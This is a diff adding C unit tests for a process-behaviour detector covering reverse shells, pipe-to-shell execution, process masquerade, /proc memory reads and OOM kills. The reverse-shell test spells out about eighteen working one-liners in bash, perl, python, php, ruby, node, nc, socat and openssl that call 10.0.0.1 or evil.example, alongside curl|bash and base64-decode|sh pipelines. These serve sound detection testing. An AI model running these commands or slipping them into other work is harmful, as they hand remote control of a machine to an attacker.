@@ -8,9 +8,11 @@
 #include <stddef.h>
 #include <stdint.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 
 #include <cmocka.h>
+#include <jansson.h>
 
 #include "detectors/detect.h"
 #include "fixtures.h"
@@ -481,6 +483,265 @@ static void test_reverse_shell(void **state)
 	detect_state_free(st);
 }
 
+/*
+ * Feeds a proc.exec of path with the NULL-terminated arguments (argv[0] first) and its stdin
+ * and stdout pipes (0: none) on step; returns the verdict count, the first in v.
+ */
+static size_t exec_argv(struct detect_state *st, int64_t id, int64_t ts, int64_t step, int64_t in,
+			int64_t out, const char *path, struct detect_verdict *v, ...)
+{
+	json_t *f = json_pack("{s:s, s:[]}", "path", path, "argv");
+	const char *comm = strrchr(path, '/') ? strrchr(path, '/') + 1 : path;
+	const char *a;
+	va_list ap;
+	char *text;
+	size_t n;
+
+	va_start(ap, v);
+	while ((a = va_arg(ap, const char *)))
+		json_array_append_new(json_object_get(f, "argv"), json_string(a));
+	va_end(ap);
+	if (in)
+		json_object_set_new(f, "stdin_pipe", json_integer(in));
+	if (out)
+		json_object_set_new(f, "stdout_pipe", json_integer(out));
+	text = json_dumps(f, JSON_COMPACT);
+	n = feed_as(st, id, ts, step, (int)id + 100, 1, comm, "t", "proc.exec", text, v);
+	free(text);
+	json_decref(f);
+	return n;
+}
+
+/* Whether an exec with these arguments is net.reverse-shell (critical), and only that. */
+#define RSH(st, path, ...)                                                                         \
+	(exec_argv(st, 1, SEC, 3, 0, 0, path, v, __VA_ARGS__, NULL) == 1 &&                        \
+	 strcmp(v[0].rule, "net.reverse-shell") == 0 && v[0].severity == DETECT_CRITICAL)
+#define QUIET(st, path, ...) (exec_argv(st, 1, SEC, 3, 0, 0, path, v, __VA_ARGS__, NULL) == 0)
+
+/* net.reverse-shell from the arguments alone: a shell, an interpreter or a network tool told to
+ * join a socket to a shell. Honest neighbours (a socket import, a loopback port check, a
+ * database's connect, curl, pip, git, nc -z) stay quiet. */
+static void test_reverse_shell_signatures(void **state)
+{
+	struct detect_state *st = new_state(0);
+	struct detect_verdict v[4];
+
+	assert_true(
+		RSH(st, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"));
+	assert_true(RSH(st, "/bin/sh", "sh", "-lc", "exec 5<>/dev/udp/evil.example/53; cat <&5"));
+	assert_true(RSH(st, "/usr/bin/perl", "perl", "-e",
+			"use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,"
+			"getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){"
+			"open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};"));
+	assert_true(RSH(st, "/usr/bin/python3.11", "python3", "-c",
+			"import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
+			"[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")"));
+	assert_true(RSH(st, "/usr/bin/python3", "python3", "-c",
+			"import socket,subprocess;s=socket.create_connection(('10.0.0.1',9));"
+			"subprocess.call(['/bin/sh','-i'],stdin=s,stdout=s)"));
+	assert_true(
+		RSH(st, "/usr/bin/python3", "python3", "-c", "import pty; pty.spawn('/bin/bash')"));
+	assert_true(RSH(st, "/usr/bin/php", "php", "-r",
+			"$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");"));
+	assert_true(RSH(st, "/usr/bin/ruby", "ruby", "-rsocket", "-e",
+			"f=TCPSocket.open(\"10.0.0.1\",1234).to_i;exec sprintf(\"/bin/sh -i <&%d "
+			">&%d 2>&%d\",f,f,f)"));
+	assert_true(RSH(st, "/usr/bin/node", "node", "-e",
+			"var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',"
+			"[]);var c=new net.Socket();c.connect(4242,'10.0.0.1',function(){"
+			"c.pipe(sh.stdin);sh.stdout.pipe(c);});"));
+	assert_true(RSH(st, "/usr/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"));
+	assert_true(RSH(st, "/usr/bin/nc.traditional", "nc", "-nv", "10.0.0.1", "4444", "-e",
+			"/bin/bash"));
+	assert_true(RSH(st, "/usr/bin/ncat", "ncat", "10.0.0.1", "4444", "--sh-exec", "sh"));
+	assert_true(RSH(st, "/bin/busybox", "busybox", "nc", "10.0.0.1", "4444", "-e", "sh"));
+	assert_true(RSH(st, "/usr/bin/socat", "socat", "exec:'bash -li',pty,stderr,setsid",
+			"tcp:10.0.0.1:4444"));
+	assert_true(
+		RSH(st, "/bin/sh", "sh", "-c",
+		    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"));
+	assert_true(RSH(st, "/bin/sh", "sh", "-c", "telnet h 4444 | /bin/bash | telnet h 4445"));
+	assert_true(RSH(st, "/bin/bash", "bash", "-c",
+			"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet "
+			"-connect 10.0.0.1:443 > /tmp/s"));
+	assert_true(RSH(st, "/bin/sh", "sh", "-c", "cd /tmp && nc -e /bin/sh 10.0.0.1 4444"));
+
+	assert_true(QUIET(st, "/usr/bin/python3", "python3", "-c", "import socket"));
+	assert_true(QUIET(st, "/usr/bin/python3", "python3", "-c",
+			  "import socket; s=socket.socket(); s.connect(('127.0.0.1', 8000)); "
+			  "print(s.recv(9))"));
+	assert_true(QUIET(st, "/usr/bin/python3", "python3", "-c",
+			  "import sqlite3, subprocess; sqlite3.connect('x.db'); "
+			  "subprocess.run(['pytest'])"));
+	assert_true(QUIET(st, "/usr/bin/python3", "python3", "-c",
+			  "import socket, subprocess; socket.create_connection(('127.0.0.1', 5432))"
+			  ".close(); subprocess.run(['psql', '-c', 'select 1'])"));
+	assert_true(QUIET(st, "/usr/bin/python3", "python3", "tool.py", "-c",
+			  "socket connect dup2 /bin/sh pty.spawn"));
+	assert_true(QUIET(st, "/usr/bin/perl", "perl", "-MIO::Socket::INET", "-e", "print 1"));
+	assert_true(QUIET(st, "/usr/bin/bash", "bash", "-c",
+			  "until bash -c '</dev/tcp/127.0.0.1/5432'; do sleep 1; done"));
+	assert_true(QUIET(st, "/usr/bin/bash", "bash", "-c", "echo > /dev/tcp/localhost/8080"));
+	assert_true(
+		QUIET(st, "/usr/bin/bash", "bash", "-c", "echo hi | nc localhost 80 2>&1 | sort"));
+	assert_true(QUIET(st, "/usr/bin/bash", "bash", "-c", "nc -z localhost 8080 && sh run.sh"));
+	assert_true(QUIET(st, "/usr/bin/bash", "bash", "-c", "grep -e def x.py | sort | uniq -c"));
+	assert_true(QUIET(st, "/usr/bin/bash", "bash", "-e", "build.sh", "-c", "nc -e"));
+	assert_true(QUIET(st, "/usr/bin/nc", "nc", "-z", "-w", "1", "localhost", "8080"));
+	assert_true(QUIET(st, "/usr/bin/nc", "nc", "-lvnp", "4444"));
+	assert_true(QUIET(st, "/usr/bin/socat", "socat", "TCP-LISTEN:8080,fork", "STDOUT"));
+	assert_true(QUIET(st, "/usr/bin/curl", "curl", "-sSf", "-o", "x", "http://docs.test/"));
+	assert_true(QUIET(st, "/usr/bin/python3", "python3", "-m", "pip", "install", "-e", "."));
+	assert_true(QUIET(st, "/usr/bin/git", "git", "clone", "-c", "x=y", "https://h/r"));
+	detect_state_free(st);
+}
+
+/* net.reverse-shell from a shell's own connect beyond loopback (only /dev/tcp makes one). */
+static void test_reverse_shell_shell_connects(void **state)
+{
+	struct detect_state *st = new_state(0);
+	struct detect_verdict v[4];
+	static const char conn[] = "{\"family\":\"inet\",\"dst\":\"%s\",\"port\":%d,"
+				   "\"egress_hook\":\"%s\",\"exe\":\"%s\"}";
+	char f[256];
+	int64_t t = 0;
+
+#define CONNECT(kind, comm, dst, port, hook, exe)                                                  \
+	(snprintf(f, sizeof(f), conn, dst, port, hook, exe),                                       \
+	 feed_as(st, 1, (t += 11) * SEC, 3, 7, 1, comm, "t", kind, f, v)) /* apart: no burst */
+	assert_int_equal(CONNECT("net.connect", "bash", "10.1.2.3", 4444, "refused", "bash"), 1);
+	assert_string_equal(v[0].rule, "net.reverse-shell");
+	assert_int_equal(v[0].severity, DETECT_CRITICAL);
+	assert_int_equal(CONNECT("net.connect", "x", "203.0.113.5", 80, "passed", "dash"), 1);
+	assert_int_equal(CONNECT("net.sendmsg", "zsh", "203.0.113.5", 4444, "passed", "zsh"), 1);
+	assert_int_equal(CONNECT("net.connect", "sh", "10.1.2.3", 4444, "refused", "busybox"), 1);
+	/* Loopback, a passed lookup, another program, busybox's wget. */
+	assert_int_equal(CONNECT("net.connect", "bash", "127.0.0.1", 8080, "passed", "bash"), 0);
+	assert_int_equal(CONNECT("net.connect", "bash", "::1", 8080, "passed", "bash"), 0);
+	assert_int_equal(CONNECT("net.sendmsg", "bash", "10.199.0.65", 53, "passed", "bash"), 0);
+	assert_int_equal(CONNECT("net.connect", "bash", "10.1.2.3", 4444, "refused", "python3.11"),
+			 0);
+	assert_int_equal(CONNECT("net.connect", "curl", "10.1.2.3", 443, "refused", "curl"), 0);
+	assert_int_equal(CONNECT("net.connect", "wget", "10.1.2.3", 80, "refused", "busybox"), 0);
+#undef CONNECT
+	detect_state_free(st);
+}
+
+/* exec.pipe-to-shell: a shell or interpreter with no script reading a pipe a decoder or a
+ * downloader of its step writes, whichever exec comes first; honest pipelines stay quiet. */
+static void test_pipe_to_shell(void **state)
+{
+	struct detect_state *st = new_state(0);
+	struct detect_verdict v[4];
+
+	/* echo ... | base64 -d | sh: base64 first. */
+	assert_int_equal(
+		exec_argv(st, 1, SEC, 3, 70, 71, "/usr/bin/base64", v, "base64", "-d", NULL), 0);
+	assert_int_equal(exec_argv(st, 2, SEC, 3, 71, 0, "/bin/sh", v, "sh", NULL), 1);
+	assert_string_equal(v[0].rule, "exec.pipe-to-shell");
+	assert_int_equal(v[0].severity, DETECT_HIGH);
+	assert_int_equal(v[0].n_ids, 2);
+	assert_int_equal(v[0].event_ids[0], 1);
+	assert_int_equal(v[0].event_ids[1], 2);
+	/* curl URL | bash: bash first. */
+	assert_int_equal(exec_argv(st, 3, SEC, 3, 80, 0, "/usr/bin/bash", v, "bash", NULL), 0);
+	assert_int_equal(exec_argv(st, 4, SEC, 3, 0, 80, "/usr/bin/curl", v, "curl", "-fsSL",
+				   "http://x/i.sh", NULL),
+			 1);
+	assert_string_equal(v[0].rule, "exec.pipe-to-shell");
+	/* wget -qO- | sh -s, xxd -r -p | bash -, openssl enc -d | python3 -, curl | perl. */
+	assert_int_equal(exec_argv(st, 5, SEC, 3, 0, 81, "/usr/bin/wget", v, "wget", "-qO-",
+				   "http://x/", NULL),
+			 0);
+	assert_int_equal(exec_argv(st, 6, SEC, 3, 81, 0, "/bin/sh", v, "sh", "-s", "--", "a", NULL),
+			 1);
+	assert_int_equal(
+		exec_argv(st, 7, SEC, 3, 0, 82, "/usr/bin/xxd", v, "xxd", "-r", "-p", NULL), 0);
+	assert_int_equal(exec_argv(st, 8, SEC, 3, 82, 0, "/bin/bash", v, "bash", "-", NULL), 1);
+	assert_int_equal(exec_argv(st, 9, SEC, 3, 0, 83, "/usr/bin/openssl", v, "openssl", "enc",
+				   "-d", "-aes-256-cbc", "-k", "x", NULL),
+			 0);
+	assert_int_equal(
+		exec_argv(st, 10, SEC, 3, 83, 0, "/usr/bin/python3.11", v, "python3", "-", NULL),
+		1);
+	assert_int_equal(
+		exec_argv(st, 11, SEC, 3, 0, 84, "/usr/bin/curl", v, "curl", "-s", "u", NULL), 0);
+	assert_int_equal(exec_argv(st, 12, SEC, 3, 84, 0, "/usr/bin/perl", v, "perl", NULL), 1);
+
+	/* Honest: git log | head; cat x | python3 script.py; curl | python3 -c CODE; curl |
+	 * python3 -m json.tool; base64 (encoding) | sh; echo code | python3 (no decoder). */
+	assert_int_equal(exec_argv(st, 20, SEC, 3, 0, 90, "/usr/bin/git", v, "git", "log", NULL),
+			 0);
+	assert_int_equal(exec_argv(st, 21, SEC, 3, 90, 0, "/usr/bin/head", v, "head", NULL), 0);
+	assert_int_equal(exec_argv(st, 22, SEC, 3, 0, 91, "/usr/bin/curl", v, "curl", "u", NULL),
+			 0);
+	assert_int_equal(exec_argv(st, 23, SEC, 3, 91, 0, "/usr/bin/python3", v, "python3",
+				   "script.py", NULL),
+			 0);
+	assert_int_equal(exec_argv(st, 24, SEC, 3, 0, 92, "/usr/bin/curl", v, "curl", "u", NULL),
+			 0);
+	assert_int_equal(exec_argv(st, 25, SEC, 3, 92, 0, "/usr/bin/python3", v, "python3", "-c",
+				   "import json,sys; print(json.load(sys.stdin))", NULL),
+			 0);
+	assert_int_equal(exec_argv(st, 26, SEC, 3, 0, 93, "/usr/bin/curl", v, "curl", "u", NULL),
+			 0);
+	assert_int_equal(exec_argv(st, 27, SEC, 3, 93, 0, "/usr/bin/python3", v, "python3", "-m",
+				   "json.tool", NULL),
+			 0);
+	assert_int_equal(
+		exec_argv(st, 28, SEC, 3, 0, 94, "/usr/bin/base64", v, "base64", "-w0", NULL), 0);
+	assert_int_equal(exec_argv(st, 29, SEC, 3, 94, 0, "/bin/sh", v, "sh", NULL), 0);
+	assert_int_equal(exec_argv(st, 30, SEC, 3, 95, 0, "/usr/bin/python3", v, "python3", NULL),
+			 0);
+	assert_int_equal(exec_argv(st, 31, SEC, 3, 0, 96, "/usr/bin/curl", v, "curl", "u", NULL),
+			 0);
+	assert_int_equal(exec_argv(st, 32, SEC, 3, 96, 0, "/usr/bin/jq", v, "jq", ".", NULL), 0);
+	/* Another step's end, another pipe, too late. */
+	assert_int_equal(
+		exec_argv(st, 40, SEC, 3, 0, 97, "/usr/bin/base64", v, "base64", "-d", NULL), 0);
+	assert_int_equal(exec_argv(st, 41, SEC, 4, 97, 0, "/bin/sh", v, "sh", NULL), 0);
+	assert_int_equal(exec_argv(st, 42, SEC, 3, 98, 0, "/bin/sh", v, "sh", NULL), 0);
+	assert_int_equal(exec_argv(st, 43, 20 * SEC, 3, 97, 0, "/bin/sh", v, "sh", NULL), 0);
+	detect_state_free(st);
+}
+
+/* resource.oom-kill from the tracer (proc.oom-kill), one verdict per kill when the cgroup's
+ * counter also shows it, whichever is seen first; only the tracer's on a v1 host. */
+static void test_oom_kill_traced_and_counted_once(void **state)
+{
+	struct detect_state *st = new_state(0);
+	struct detect_verdict v[4];
+	static const char oom[] = "{\"trigger_pid\":41,\"trigger_comm\":\"python3\"}";
+	struct event ev;
+
+	assert_int_equal(feed_as(st, 1, SEC, 5, 41, 40, "python3", "t", "proc.oom-kill", oom, v),
+			 1);
+	assert_string_equal(v[0].rule, "resource.oom-kill");
+	assert_int_equal(v[0].severity, DETECT_MEDIUM);
+	assert_int_equal(v[0].step, 5);
+	event_init(&ev);
+	ev.id = 2;
+	ev.ts = 2 * SEC;
+	strcpy(ev.kind, "cgroup.stats");
+	ev.fields = (char *)"{\"memory_oom_kill\":1}";
+	assert_int_equal(detect_event(st, &ev, v, 4), 0); /* the tracer's, counted */
+	ev.ts = 3 * SEC;
+	ev.fields = (char *)"{\"memory_oom_kill\":3}";
+	assert_int_equal(detect_event(st, &ev, v, 4), 1); /* counted first this time: 2 kills */
+	assert_true(strstr(v[0].reason, "2 process(es)") != NULL);
+	assert_int_equal(
+		feed_as(st, 3, 3 * SEC, 5, 42, 40, "python3", "t", "proc.oom-kill", oom, v), 0);
+	assert_int_equal(
+		feed_as(st, 4, 3 * SEC, 5, 43, 40, "python3", "t", "proc.oom-kill", oom, v), 0);
+	/* A v1 host: the counter never moves; each traced kill is a verdict. */
+	assert_int_equal(
+		feed_as(st, 5, 60 * SEC, 5, 44, 40, "python3", "t", "proc.oom-kill", oom, v), 1);
+	assert_int_equal(
+		feed_as(st, 6, 61 * SEC, 5, 45, 40, "python3", "t", "proc.oom-kill", oom, v), 1);
+	ev.fields = NULL;
+	detect_state_free(st);
+}
+
 /* exec.drift: memfd and deleted critical, the sandbox's /tmp and /dev/shm high, the workspace
  * (an honest build's output) and the host nothing. */
 static void test_exec_drift(void **state)
@@ -537,6 +798,21 @@ static void test_exec_masquerade(void **state)
 				 "{\"path\":\"/usr/bin/python3\",\"argv\":[\"python3\",\"-m\"]}",
 				 v),
 			 0);
+	/* The titles sshd gives itself, ps's form of kernel threads; not a python's title. */
+	assert_int_equal(
+		exec_argv(st, 8, SEC, 3, 0, 0, "/usr/bin/sleep", v, "sshd: root@pts/0", "9", NULL),
+		1);
+	assert_string_equal(v[0].rule, "exec.masquerade");
+	assert_int_equal(
+		exec_argv(st, 9, SEC, 3, 0, 0, "/usr/bin/sleep", v, "sshd: user [priv]", NULL), 1);
+	assert_int_equal(exec_argv(st, 10, SEC, 3, 0, 0, "/usr/bin/sleep", v, "[kthreadd]", NULL),
+			 1);
+	assert_int_equal(
+		exec_argv(st, 11, SEC, 3, 0, 0, "/usr/bin/sleep", v, "[kworker/0:1]", NULL), 1);
+	assert_int_equal(
+		exec_argv(st, 12, SEC, 3, 0, 0, "/usr/bin/python3", v, "python3: worker", NULL), 0);
+	assert_int_equal(
+		exec_argv(st, 13, SEC, 3, 0, 0, "/usr/bin/sleep", v, "sleep", "sshd:", NULL), 0);
 	assert_int_equal(feed_as(st, 5, SEC, 3, 5, 1, "python3.11", "t", "proc.rename",
 				 "{\"old_comm\":\"python3.11\",\"new_comm\":\"systemd-journal\","
 				 "\"exe\":\"python3.11\"}",
@@ -766,6 +1042,16 @@ static void test_file_rules(void **state)
 	assert_int_equal(feed(st, 3, 11 * SEC, "t", "file.open",
 			      "{\"path\":\"/proc/9/environ\",\"write\":false}", v),
 			 0);
+	/* Another process's memory itself: critical; its maps: high. */
+	assert_int_equal(feed(st, 3, 11 * SEC, "t", "file.open",
+			      "{\"path\":\"/proc/7/mem\",\"write\":false,\"target_pid\":7}", v),
+			 1);
+	assert_string_equal(v[0].rule, "file.sensitive-read");
+	assert_int_equal(v[0].severity, DETECT_CRITICAL);
+	assert_int_equal(feed(st, 3, 11 * SEC, "t", "file.open",
+			      "{\"path\":\"/proc/7/maps\",\"write\":false,\"target_pid\":7}", v),
+			 1);
+	assert_int_equal(v[0].severity, DETECT_HIGH);
 	assert_int_equal(feed(st, 4, 11 * SEC, "t", "file.open", "{\"path\":\"/proc/kcore\"}", v),
 			 1);
 	/* Persistence: .bashrc, a .pth in /tmp, a git hook; not a .pth in site-packages, not a
@@ -1086,6 +1372,10 @@ int main(void)
 		cmocka_unit_test(test_signal_beyond_step),
 		cmocka_unit_test(test_unexpected_listener),
 		cmocka_unit_test(test_reverse_shell),
+		cmocka_unit_test(test_reverse_shell_signatures),
+		cmocka_unit_test(test_reverse_shell_shell_connects),
+		cmocka_unit_test(test_pipe_to_shell),
+		cmocka_unit_test(test_oom_kill_traced_and_counted_once),
 		cmocka_unit_test(test_exec_drift),
 		cmocka_unit_test(test_exec_masquerade),
 		cmocka_unit_test(test_loader_injection),
